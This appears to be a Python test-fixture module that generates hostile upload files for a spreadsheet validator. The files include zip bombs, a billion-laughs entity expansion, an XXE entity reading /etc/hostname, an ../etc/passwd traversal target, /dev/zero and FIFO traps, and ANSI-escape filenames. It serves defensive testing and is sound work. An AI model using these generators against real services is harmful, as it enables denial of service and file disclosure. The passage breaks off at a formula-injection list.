"""Hostile upload files, each written on the fly: what a careless or malicious upload can be.

``CASES`` lists them; ``case.make(folder)`` writes one into ``folder`` and returns the path to give to
``tango-batch validate``. Each is cheap to write (well under 2 s) and small on disk: the hostile ones
are hostile because of what they expand to (a sheet reaching cell XFD1048576, a zip entry inflating
to more than 1 GB, a symlink to /dev/zero), not their size. Nothing here imports the pipeline, and
nothing needs pytest: the tests and ``tests/bench/bench_hostile.py`` both use it.

The valid parts of the sheets hold the usual columns (First Name, Last Name, Email, Delivery Method,
UTID, Amount) with rows such as ``Ann,Lee,ann.lee@example.com,EMAIL,U761382,25``.
"""

from __future__ import annotations

import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import xlsxwriter
from openpyxl.utils import get_column_letter  # type: ignore[import-untyped]

__all__ = ["CASES", "HEADER", "ROWS", "Case"]

HEADER = ["First Name", "Last Name", "Email", "Delivery Method", "UTID", "Amount"]
ROWS = [["Ann", "Lee", "ann.lee@example.com", "EMAIL", "U761382", "25"],
        ["Bob", "Ng", "bob.ng@example.com", "EMAIL", "U761382", "50"],
        ["Cara", "Diaz", "cara.diaz@example.com", "EMAIL", "U761382", "25"]]
MAX_ROW, MAX_COL = 1_048_576, 16_384                  # Excel's last row and column (XFD)
BOMB = 1_100_000_000                                  # bytes a bomb inflates to: more than 1 GB (and 1 GiB)
MiB = 1 << 20

Maker = Callable[[Path], Path]


@dataclass(frozen=True)
class Case:
    name: str
    make: Maker
    about: str
    heavy: bool = False                 # expected to take long or much memory: the bench runs these last
    personal: tuple[str, ...] = ()      # personal data in the file that no message may echo


CASES: list[Case] = []


def case(about: str, *, heavy: bool = False, personal: tuple[str, ...] = ()) -> Callable[[Maker], Maker]:
    """Register the decorated maker as a case named after it."""
    def register(make: Maker) -> Maker:
        CASES.append(Case(make.__name__, make, about, heavy, personal))
        return make
    return register


# --- plain text ------------------------------------------------------------------------------------
def _csv(rows: Iterable[Sequence[str]], header: Sequence[str] = HEADER, *, sep: str = ",", eol: str = "\n") -> str:
    def cell(value: str) -> str:
        if any(ch in value for ch in (sep, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value
    return "".join(sep.join(cell(v) for v in row) + eol for row in [header, *rows])


def _write(path: Path, data: bytes | str) -> Path:
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


# --- workbooks through xlsxwriter ------------------------------------------------------------------
def _xlsx(path: Path, rows: Iterable[Sequence[str | None]], *, cells: Iterable[tuple[int, int, str]] = ()) -> Path:
    """A workbook whose first sheet holds ``rows`` from A1 and then ``cells`` (row, column, text; 0-based)."""
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet("Recipients")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                ws.write_string(r, c, value)
    for r, c, value in cells:
        ws.write_string(r, c, value)
    book.close()
    return path


# --- workbooks written part by part ------------------------------------------------------------------
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
DECL = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
STYLES = DECL + (f'<styleSheet xmlns="{MAIN}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font>'
          '</fonts><fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill '
          'patternType="gray125"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/>'
          '</patternFill></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/>'
          '</border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
          '</cellStyleXfs><cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
          '<xf numFmtId="0" fontId="0" fillId="2" borderId="0" xfId="0" applyFill="1"/></cellXfs>'
          '</styleSheet>').encode()


@dataclass(frozen=True)
class Bomb:
    """A part that inflates to ``prefix + chunk * count + suffix`` while its deflate stream stays
    small: ``chunk`` is compressed once and its compressed bytes repeated (each copy ends on a full
    flush, so it refers to nothing before it)."""
    prefix: bytes
    chunk: bytes
    count: int
    suffix: bytes

    @classmethod
    def of(cls, prefix: bytes, pattern: bytes, suffix: bytes, size: int = BOMB) -> Bomb:
        chunk = pattern * max(1, MiB // len(pattern))
        return cls(prefix, chunk, -(-(size - len(prefix) - len(suffix)) // len(chunk)), suffix)

    @property
    def size(self) -> int:
        return len(self.prefix) + len(self.chunk) * self.count + len(self.suffix)


Part = bytes | Bomb


def col(index: int) -> str:
    """Column letters of a 0-based column index (0 -> A, 16383 -> XFD), as openpyxl writes them."""
    return str(get_column_letter(index + 1))


def row_xml(r: int, values: Sequence[str | None], *, start: int = 0) -> bytes:
    """A ``<row>`` of inline-string cells, row ``r`` (1-based), from column ``start`` (0-based)."""
    cells = "".join(f'<c r="{col(start + i)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
                    for i, v in enumerate(values) if v is not None)
    return f'<row r="{r}">{cells}</row>'.encode()


def table_xml(rows: Sequence[Sequence[str | None]] = (HEADER, *ROWS)) -> bytes:
    return b"".join(row_xml(r, row) for r, row in enumerate(rows, 1))


def sheet_xml(data: bytes, *, before: bytes = b"", after: bytes = b"") -> bytes:
    """A worksheet: ``before`` (dimension, cols) + ``<sheetData>`` + ``data`` + ``after`` (merges)."""
    return (DECL + f'<worksheet xmlns="{MAIN}" xmlns:r="{REL}">'.encode() + before + b"<sheetData>" + data
            + b"</sheetData>" + after + b"</worksheet>")


def sheet_head(data: bytes = b"") -> bytes:
    """The opening of a worksheet up to (and with) ``data`` inside ``<sheetData>``: a bomb's prefix."""
    return DECL + f'<worksheet xmlns="{MAIN}" xmlns:r="{REL}"><sheetData>'.encode() + data


SHEET_END = b"</sheetData></worksheet>"


def workbook_xml(names: Sequence[str], *, doctype: str = "") -> bytes:
    sheets = "".join(f'<sheet name={quoteattr(n)} sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, 1))
    return (DECL + doctype.encode() + f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{sheets}</sheets>'
            "</workbook>".encode())


def package(path: Path, sheets: Sequence[tuple[str, Part]], *, shared: Part | None = None,
            workbook: bytes | None = None, targets: Sequence[str] | None = None,
            lie: dict[str, int] | None = None) -> Path:
    """An .xlsx written part by part: ``sheets`` (name, worksheet XML), optional shared strings, the
    workbook XML and the relationship targets of the sheets when given, declared sizes that lie."""
    n = len(sheets)
    targets = list(targets or [f"worksheets/sheet{i}.xml" for i in range(1, n + 1)])
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{CT_SHEET}"/>'
                        for i in range(1, n + 1))
    if shared is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                      'officedocument.spreadsheetml.sharedStrings+xml"/>')
    types = (DECL + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
             b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
             b'<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             b'spreadsheetml.styles+xml"/>' + overrides.encode() + b"</Types>")
    root_rels = (DECL + f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/officeDocument" '
                 'Target="xl/workbook.xml"/></Relationships>'.encode())
    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL}/worksheet" Target={quoteattr(t)}/>'
                   for i, t in enumerate(targets, 1))
    rels += f'<Relationship Id="rId{n + 1}" Type="{REL}/styles" Target="styles.xml"/>'
    if shared is not None:
        rels += f'<Relationship Id="rId{n + 2}" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
    parts: list[tuple[str, Part]] = [
        ("[Content_Types].xml", types), ("_rels/.rels", root_rels),
        ("xl/workbook.xml", workbook or workbook_xml([name for name, _ in sheets])),
        ("xl/_rels/workbook.xml.rels", DECL + f'<Relationships xmlns="{PKG}">{rels}</Relationships>'.encode()),
        ("xl/styles.xml", STYLES),
        *((f"xl/worksheets/sheet{i}.xml", xml) for i, (_, xml) in enumerate(sheets, 1)),
    ]
    if shared is not None:
        parts.append(("xl/sharedStrings.xml", shared))
    return write_zip(path, parts, lie=lie)


# --- a zip writer that can hold bombs and lies ------------------------------------------------------------
def _deflate(part: Part) -> tuple[list[bytes], int, int]:
    """The deflate stream of a part in pieces, its CRC-32 and its size."""
    def squeeze(data: bytes, mode: int) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(mode)
    if isinstance(part, bytes):
        return [squeeze(part, zlib.Z_FINISH)], zlib.crc32(part), len(part)
    crc = zlib.crc32(part.prefix)
    for _ in range(part.count):
        crc = zlib.crc32(part.chunk, crc)
    crc = zlib.crc32(part.suffix, crc)
    pieces = [squeeze(part.prefix, zlib.Z_FULL_FLUSH), *[squeeze(part.chunk, zlib.Z_FULL_FLUSH)] * part.count,
              squeeze(part.suffix, zlib.Z_FINISH)]
    return pieces, crc, part.size


def write_zip(path: Path, parts: Sequence[tuple[str, Part]], *, lie: dict[str, int] | None = None,
              stored: frozenset[str] = frozenset()) -> Path:
    """A plain (non-zip64) zip of ``parts``, deflated but those named in ``stored``; ``lie`` gives
    the uncompressed size to declare instead of the true one."""
    central = b""
    with open(path, "wb") as fh:
        for name, part in parts:
            if name in stored and isinstance(part, bytes):
                pieces, crc, size, method = [part], zlib.crc32(part), len(part), 0
            else:
                (pieces, crc, size), method = _deflate(part), 8
            packed = sum(map(len, pieces))
            declared = (lie or {}).get(name, size)
            raw = name.encode()
            offset = fh.tell()
            fh.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, packed, declared,
                                 len(raw), 0) + raw)
            for piece in pieces:
                fh.write(piece)
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, method, 0, 0x21, crc, packed,
                                   declared, len(raw), 0, 0, 0, 0, 0o100644 << 16, offset) + raw
        start = fh.tell()
        fh.write(central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central),
                                       start, 0))
    return path


# === workbooks: shape ===================================================================================
@case("16,384 columns (A..XFD) x 5 rows, every cell filled: the header names the 6 known columns, then "
      "C7..XFD; 4 data rows")
def xlsx_16384_cols(folder: Path) -> Path:
    header = HEADER + [f"C{i}" for i in range(len(HEADER) + 1, MAX_COL + 1)]
    data = [ROWS[i % 3][:] + [f"v{i}"] * (MAX_COL - len(HEADER)) for i in range(4)]
    return _xlsx(folder / "wide.xlsx", [header, *data])


@case("600 columns, every cell filled: the 6 known columns then 594 others; 3 data rows")
def xlsx_600_cols(folder: Path) -> Path:
    header = HEADER + [f"Extra {i}" for i in range(1, 595)]
    return _xlsx(folder / "600.xlsx", [header, *(row + [f"x{i}" for i in range(594)] for row in ROWS)])


@case("header of 5 known columns (First Name, Last Name, Email, UTID, Amount), 3 rows, and one value far "
      "out at XFD2: the used range is 16,384 columns wide")
def xlsx_value_at_xfd(folder: Path) -> Path:
    five = [[r[0], r[1], r[2], r[4], r[5]] for r in [HEADER, *ROWS]]
    return _xlsx(folder / "xfd.xlsx", five, cells=[(1, MAX_COL - 1, "stray")])


@case("the header and 3 rows, then one cell at A1048576: the used range is a million rows high")
def xlsx_cell_at_last_row(folder: Path) -> Path:
    return _xlsx(folder / "last-row.xlsx", [HEADER, *ROWS], cells=[(MAX_ROW - 1, 0, "stray")])


@case("the only cell is A1048576 (no header anywhere)")
def xlsx_only_last_row(folder: Path) -> Path:
    return _xlsx(folder / "only-last-row.xlsx", [], cells=[(MAX_ROW - 1, 0, "First Name")])


@case('<dimension ref="A1:XFD1048576"/> while the sheet holds the header and 3 rows')
def xlsx_dimension_lies(folder: Path) -> Path:
    xml = sheet_xml(table_xml(), before=b'<dimension ref="A1:XFD1048576"/>')
    return package(folder / "dimension.xlsx", [("Recipients", xml)])


@case("the header and 3 rows, then styled empty cells out to XFD1048576: every column styled (<cols>), "
      "row 5 styled A..XFD, rows 6..1048575 styled without cells, a styled empty cell at XFD1048576")
def xlsx_styled_empty_to_xfd1048576(folder: Path) -> Path:
    row5 = "".join(f'<c r="{col(i)}5" s="1"/>' for i in range(MAX_COL))
    head = sheet_head(table_xml() + f'<row r="5" s="1" customFormat="1">{row5}</row>'.encode())
    head = head.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" '
                        b'width="9.14" style="1"/></cols><sheetData>')
    rows = b"".join(f'<row r="{r}" s="1" customFormat="1"/>'.encode() for r in range(6, MAX_ROW))
    last = f'<row r="{MAX_ROW}" s="1" customFormat="1"><c r="XFD{MAX_ROW}" s="1"/></row>'.encode()
    return package(folder / "styled.xlsx", [("Recipients", head + rows + last + SHEET_END)])


@case("zip bomb: the sheet holds the header and 3 rows, then inflates to 1.1 GB of rows "
      '<row><c t="inlineStr"><is><t>x</t></is></c></row> (no r attributes); a few MB on disk', heavy=True)
def xlsx_bomb_cells(folder: Path) -> Path:
    bomb = Bomb.of(sheet_head(table_xml()), b'<row><c t="inlineStr"><is><t>x</t></is></c></row>', SHEET_END)
    return package(folder / "bomb-cells.xlsx", [("Recipients", bomb)])


@case("zip bomb: the header and 3 rows, then 1.1 GB of empty <row/> elements", heavy=True)
def xlsx_bomb_empty_rows(folder: Path) -> Path:
    bomb = Bomb.of(sheet_head(table_xml()), b"<row/>", SHEET_END)
    return package(folder / "bomb-rows.xlsx", [("Recipients", bomb)])


@case("zip bomb: the header and 3 rows, then 1.1 GB of spaces inside <sheetData> (well-formed XML)",
      heavy=True)
def xlsx_bomb_whitespace(folder: Path) -> Path:
    bomb = Bomb.of(sheet_head(table_xml()), b" " * 4096, SHEET_END)
    return package(folder / "bomb-space.xlsx", [("Recipients", bomb)])


@case("zip bomb in xl/sharedStrings.xml: the sheet (header and 3 rows) uses strings 0..8; the table "
      "inflates to 1.1 GB, about 69 million <si><t>x</t></si> entries", heavy=True)
def xlsx_bomb_shared_strings(folder: Path) -> Path:
    strings = [*HEADER, "Ann", "Lee", "ann.lee@example.com"]
    cells = "".join(f'<c r="{col(i)}1" t="s"><v>{i}</v></c>' for i in range(6))
    row2 = "".join(f'<c r="{col(i)}2" t="s"><v>{6 + i}</v></c>' for i in range(3))
    row2 += '<c r="D2" t="inlineStr"><is><t>EMAIL</t></is></c><c r="E2" t="inlineStr"><is><t>U761382</t></is></c>'
    row2 += '<c r="F2"><v>25</v></c>'
    sheet = sheet_xml(f'<row r="1">{cells}</row><row r="2">{row2}</row>'.encode())
    head = DECL + f'<sst xmlns="{MAIN}">'.encode() + b"".join(f"<si><t>{s}</t></si>".encode() for s in strings)
    return package(folder / "bomb-strings.xlsx", [("Recipients", sheet)],
                   shared=Bomb.of(head, b"<si><t>x</t></si>", b"</sst>"))


@case("the zip's declared uncompressed size of the sheet (1,000 bytes) is smaller than what it inflates to "
      "(about 60 MB: the header and 3 rows then 1.5 million rows without r attributes); CRC of the real data")
def xlsx_size_lies(folder: Path) -> Path:
    bomb = Bomb.of(sheet_head(table_xml()), b'<row><c t="inlineStr"><is><t>y</t></is></c></row>', SHEET_END,
                   size=60 * MiB)
    return package(folder / "size-lies.xlsx", [("Recipients", bomb)], lie={"xl/worksheets/sheet1.xml": 1000})


LAUGHS = ('<!DOCTYPE workbook [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">' for i in range(1, 10))
          + "]>")


@case('"billion laughs": xl/workbook.xml has a DOCTYPE of nested entities (10^9 "lol"s) used in a sheet '
      "name; the sheet itself is fine")
def xlsx_billion_laughs(folder: Path) -> Path:
    book = workbook_xml(["Recipients"], doctype=LAUGHS).replace(b'name="Recipients"', b'name="&lol9;"')
    return package(folder / "laughs.xlsx", [("Recipients", sheet_xml(table_xml()))], workbook=book)


@case("XXE: xl/workbook.xml declares an external entity SYSTEM file:///etc/hostname used as the sheet name "
      "(a message echoing the sheet name would leak the file)")
def xlsx_xxe_workbook(folder: Path) -> Path:
    book = workbook_xml(["Recipients"], doctype='<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>')
    book = book.replace(b'name="Recipients"', b'name="&xxe;"')
    return package(folder / "xxe.xlsx", [("Recipients", sheet_xml(table_xml()))], workbook=book)


@case("5,000 sheets, each with the header and one row (every one is a sheet of recipients)", heavy=True)
def xlsx_5000_sheets(folder: Path) -> Path:
    sheet = sheet_xml(table_xml([HEADER, ROWS[0]]))
    return package(folder / "5000.xlsx", [(f"S{i}", sheet) for i in range(1, 5001)])


@case("a First Name of 32,767 characters (Excel's most for a cell) and an Email of 32,767")
def xlsx_32767_char_cell(folder: Path) -> Path:
    long_email = "a" * (32_767 - len("@example.com")) + "@example.com"
    return _xlsx(folder / "long-cell.xlsx", [HEADER, ["N" * 32_767, "Lee", long_email, "EMAIL", "U761382", "25"],
                                             *ROWS[1:]])


@case("rows out of order (5, 2, 9, 3) and duplicated r attributes (row 2 twice, cell B3 twice)")
def xlsx_rows_out_of_order(folder: Path) -> Path:
    data = (row_xml(1, HEADER) + row_xml(5, ROWS[2]) + row_xml(2, ROWS[0]) + row_xml(9, ROWS[1])
            + row_xml(2, ["Dup", "Row", "dup.row@example.com", "EMAIL", "U761382", "10"])
            + b'<row r="3"><c r="A3" t="inlineStr"><is><t>Eve</t></is></c><c r="B3" t="inlineStr"><is><t>One'
              b'</t></is></c><c r="B3" t="inlineStr"><is><t>Two</t></is></c><c r="C3" t="inlineStr"><is><t>'
              b'eve@example.com</t></is></c><c r="D3" t="inlineStr"><is><t>EMAIL</t></is></c><c r="E3" '
              b't="inlineStr"><is><t>U761382</t></is></c><c r="F3"><v>5</v></c></row>')
    return package(folder / "order.xlsx", [("Recipients", sheet_xml(data))])


@case("a valid workbook (header and 200 rows) cut in half: no central directory")
def xlsx_truncated(folder: Path) -> Path:
    path = _xlsx(folder / "truncated.xlsx", [HEADER, *(ROWS[i % 3] for i in range(200))])
    data = path.read_bytes()
    return _write(path, data[: len(data) // 2])


@case("a package whose xl/worksheets/sheet1.xml is zero bytes")
def xlsx_zero_byte_sheet(folder: Path) -> Path:
    return package(folder / "zero-sheet.xlsx", [("Recipients", b"")])


@case("an empty but valid zip (only the end-of-central-directory record) named .xlsx")
def xlsx_empty_zip(folder: Path) -> Path:
    return write_zip(folder / "empty-zip.xlsx", [])


@case("the relationship of the sheet points outside the package: Target=\"../../../../etc/passwd\"")
def xlsx_rels_traversal(folder: Path) -> Path:
    return package(folder / "traversal.xlsx", [("Recipients", sheet_xml(table_xml()))],
                   targets=["../../../../etc/passwd"])


@case("merged ranges covering the sheet: A2:A1048576 (a name merged down a million rows) and G1:XFD4")
def xlsx_merge_bomb(folder: Path) -> Path:
    merges = (b'<mergeCells count="2"><mergeCell ref="A2:A1048576"/><mergeCell ref="G1:XFD4"/></mergeCells>')
    return package(folder / "merges.xlsx", [("Recipients", sheet_xml(table_xml(), after=merges))])


@case("a shared-string cell pointing at index 4294967295 of a 1-entry table, and one at -1")
def xlsx_bad_shared_index(folder: Path) -> Path:
    data = table_xml([HEADER]) + (b'<row r="2"><c r="A2" t="s"><v>4294967295</v></c><c r="B2" t="s"><v>-1</v>'
                                  b'</c><c r="C2" t="s"><v>0</v></c></row>')
    shared = DECL + f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>ann@example.com</t></si></sst>'.encode()
    return package(folder / "bad-index.xlsx", [("Recipients", sheet_xml(data))], shared=shared)


# === not what the name says =============================================================================
@case("a CSV (header and 3 rows) renamed .xlsx")
def csv_named_xlsx(folder: Path) -> Path:
    return _write(folder / "really-csv.xlsx", _csv(ROWS))


@case("a real .xlsx workbook renamed .csv")
def xlsx_named_csv(folder: Path) -> Path:
    path = _xlsx(folder / "tmp.xlsx", [HEADER, *ROWS])
    return path.rename(folder / "really-xlsx.csv")


@case("64 KB of random bytes named .xlsx")
def random_bytes_xlsx(folder: Path) -> Path:
    return _write(folder / "random.xlsx", random.Random(7).randbytes(65_536))


@case("an OLE compound file header (D0 CF 11 E0 A1 B1 1A E1: an encrypted workbook or an .xls) then "
      "random bytes, named .xlsx")
def ole_encrypted_xlsx(folder: Path) -> Path:
    return _write(folder / "encrypted.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(8).randbytes(8184))


@case("an empty file named .xlsx")
def empty_xlsx(folder: Path) -> Path:
    return _write(folder / "empty.xlsx", b"")


@case("an empty file named .csv")
def empty_csv(folder: Path) -> Path:
    return _write(folder / "empty.csv", b"")


@case("a .csv holding only a UTF-8 BOM (3 bytes)")
def bom_only_csv(folder: Path) -> Path:
    return _write(folder / "bom.csv", b"\xef\xbb\xbf")


# === CSV ==================================================================================================
@case("10,000 columns: the 6 known ones then C7..C10000, one data row (about 80 KB)")
def csv_10000_cols(folder: Path) -> Path:
    header = HEADER + [f"C{i}" for i in range(7, 10_001)]
    return _write(folder / "wide.csv", _csv([ROWS[0] + ["1"] * (10_000 - 6)], header))


@case("header of 5 known columns, one data row followed by 20,000 commas (20,000 empty cells, no header)")
def csv_20000_trailing_commas(folder: Path) -> Path:
    return _write(folder / "commas.csv", "First Name,Last Name,Email,UTID,Amount\n"
                  "Ann,Lee,ann.lee@example.com,U761382,25" + "," * 20_000 + "\n")


@case("the header then 2,000,000 lines 'x' (more rows than Excel's 1,048,576; 4 MB)", heavy=True)
def csv_2m_lines(folder: Path) -> Path:
    return _write(folder / "2m.csv", ",".join(HEADER).encode() + b"\n" + b"x\n" * 2_000_000)


@case("line ends are CR only (old Mac)")
def csv_cr_only(folder: Path) -> Path:
    return _write(folder / "cr.csv", _csv(ROWS, eol="\r"))


@case("mixed line ends: \\r\\n after the header, then \\n, \\r and \\r\\n")
def csv_mixed_line_ends(folder: Path) -> Path:
    lines = [",".join(r) for r in [HEADER, *ROWS, ["Dan", "Ito", "dan.ito@example.com", "EMAIL", "U761382", "5"]]]
    return _write(folder / "mixed.csv", lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n"
                  + lines[4] + "\n")


@case("UTF-16 LE with a BOM, accented names")
def csv_utf16_bom(folder: Path) -> Path:
    rows = [["José", "Muñoz", "jose.munoz@example.com", "EMAIL", "U761382", "25"], *ROWS]
    return _write(folder / "utf16.csv", _csv(rows).encode("utf-16"))


@case("Windows-1252 with accented names (é, ñ, ë, ç) and a euro sign")
def csv_cp1252(folder: Path) -> Path:
    rows = [["José", "Muñoz", "jose.munoz@example.com", "EMAIL", "U761382", "25"],
            ["Zoë", "François", "zoe.francois@example.com", "EMAIL", "U761382", "50"]]
    return _write(folder / "cp1252.csv", (_csv(rows) + "Éric,Garçon,eric@example.com,EMAIL,U761382,25 €\n")
                  .encode("cp1252"))


@case("a NUL byte inside a First Name on row 120 (past the first 4 KB a text check may look at)")
def csv_nul_byte(folder: Path) -> Path:
    rows = [ROWS[i % 3] for i in range(118)] + [["An\x00n", "Lee", "ann.lee@example.com", "EMAIL", "U761382", "25"]]
    return _write(folder / "nul.csv", _csv(rows))


@case("an unterminated quote on row 3 swallows the rest of the file (50 rows)")
def csv_unterminated_quote(folder: Path) -> Path:
    rest = "".join(f"P{i},Lee,p{i}@example.com,EMAIL,U761382,25\n" for i in range(48))
    return _write(folder / "quote.csv", _csv(ROWS[:1]) + 'Bob,"Ng,bob.ng@example.com,EMAIL,U761382,50\n' + rest)


@case("one First Name cell of 10 MB", heavy=True)
def csv_10mb_cell(folder: Path) -> Path:
    return _write(folder / "big-cell.csv", _csv([["A" * 10_000_000, *ROWS[0][1:]], *ROWS[1:]]))


@case("1,000 blank lines before the header")
def csv_1000_blank_lines(folder: Path) -> Path:
    return _write(folder / "blank-lines.csv", "\n" * 1000 + _csv(ROWS))


@case("99 lines of notes, then the header on line 100 (beyond the 20-row header search)")
def csv_header_100_down(folder: Path) -> Path:
    notes = "".join(f"Note {i}: export from HRIS\n" for i in range(1, 100))
    return _write(folder / "header-100.csv", notes + _csv(ROWS))


@case("a parse error on a row holding an e-mail and a phone number in a malformed quoted field: the "
      "message must not echo them", personal=("ann@example.com", "+14155550101", "4155550101"))
def csv_parse_error_pii(folder: Path) -> Path:
    bad = 'Ann,Lee,"ann@example.com,+14155550101"x"y,EMAIL,U761382,25,"\n'
    return _write(folder / "pii.csv", _csv(ROWS[1:2]) + bad + '"unclosed,ann@example.com,+14155550101\n')


@case("bytes neither UTF-8 nor Windows-1252 can read (0x81, 0x8D, 0x8F, 0x90, 0x9D) in a name")
def csv_undecodable(folder: Path) -> Path:
    return _write(folder / "undecodable.csv", _csv(ROWS).encode() + b"An\x81\x8d\x8f\x90\x9dn,Lee,a@example.com,"
                  b"EMAIL,U761382,25\n")


@case("starts with a UTF-16 BOM but has an odd number of bytes and an unpaired surrogate")
def csv_utf16_broken(folder: Path) -> Path:
    return _write(folder / "utf16-broken.csv", _csv(ROWS).encode("utf-16") + b"\x00\xd8A\x00" + b"\x42")


@case("the header names Email three times and First Name twice, with different values under each")
def csv_duplicate_headers(folder: Path) -> Path:
    header = ["First Name", "Email", "First Name", "Email", "Email", "Delivery Method", "UTID", "Amount"]
    rows = [["Ann", "ann.lee@example.com", "Bob", "bob.ng@example.com", "", "EMAIL", "U761382", "25"]]
    return _write(folder / "dup-header.csv", _csv(rows, header))


# === the file system ======================================================================================
@case("a FIFO named x.csv with no writer: opening it blocks for ever", heavy=True)
def fifo_csv(folder: Path) -> Path:
    path = folder / "x.csv"
    os.mkfifo(path)
    return path


@case("a symlink zero.csv -> /dev/zero: reading it never ends and fills memory", heavy=True)
def dev_zero_csv(folder: Path) -> Path:
    path = folder / "zero.csv"
    path.symlink_to("/dev/zero")
    return path


@case("a directory named dir.xlsx")
def dir_xlsx(folder: Path) -> Path:
    path = folder / "dir.xlsx"
    path.mkdir()
    return path


@case("a symlink loop: a.csv -> b.csv -> a.csv")
def symlink_loop(folder: Path) -> Path:
    (folder / "a.csv").symlink_to("b.csv")
    (folder / "b.csv").symlink_to("a.csv")
    return folder / "a.csv"


@case("a dangling symlink gone.csv -> missing.csv")
def dangling_symlink(folder: Path) -> Path:
    path = folder / "gone.csv"
    path.symlink_to("missing.csv")
    return path


@case("a valid CSV whose name is not UTF-8: the bytes b'caf\\xe9.csv' (Latin-1 e-acute)")
def non_utf8_name(folder: Path) -> Path:
    raw = os.path.join(os.fsencode(folder), b"caf\xe9.csv")
    with open(raw, "wb") as fh:
        fh.write(_csv(ROWS).encode())
    return Path(os.fsdecode(raw))


@case("a valid CSV whose name holds a newline: 'new\\nline.csv'")
def newline_name(folder: Path) -> Path:
    return _write(folder / "new\nline.csv", _csv(ROWS))


@case("a valid CSV whose name holds ANSI escape sequences (red text, clear screen, window title)")
def ansi_name(folder: Path) -> Path:
    return _write(folder / "\x1b[31mred\x1b[0m\x1b[2J\x1b]0;pwned\x07.csv", _csv(ROWS))


@case("a valid CSV with mode 000 (no read permission); run as root (as the tests are) it stays readable")
def no_read_permission(folder: Path) -> Path:
    path = _write(folder / "locked.csv", _csv(ROWS))
    path.chmod(0)
    return path


@case("a valid tab-separated file named .txt (Excel's 'Text (Tab delimited)')")
def txt_file(folder: Path) -> Path:
    return _write(folder / "recipients.txt", _csv(ROWS, sep="\t"))


@case("a real .xlsx workbook saved under an .xls name")
def xls_file(folder: Path) -> Path:
    path = _xlsx(folder / "tmp.xlsx", [HEADER, *ROWS])
    return path.rename(folder / "recipients.xls")


@case("a minimal OpenDocument spreadsheet (.ods) with the header and 3 rows")
def ods_file(folder: Path) -> Path:
    def cells(row: Sequence[str]) -> str:
        return "".join(f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p>'
                       "</table:table-cell>" for v in row)
    rows = "".join(f"<table:table-row>{cells(r)}</table:table-row>" for r in [HEADER, *ROWS])
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2">'
               f'<office:body><office:spreadsheet><table:table table:name="Recipients">{rows}</table:table>'
               "</office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    return write_zip(folder / "recipients.ods", [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                                                 ("META-INF/manifest.xml", manifest.encode()),
                                                 ("content.xml", content.encode())], stored=frozenset({"mimetype"}))


@case("a valid CSV with no suffix at all: 'recipients'")
def no_suffix(folder: Path) -> Path:
    return _write(folder / "recipients", _csv(ROWS))


# === hostile cell content =================================================================================
FORMULAS = [["=1+1", "Lee", "ann.lee@example.com", "EMAIL", "U761382", "25"],
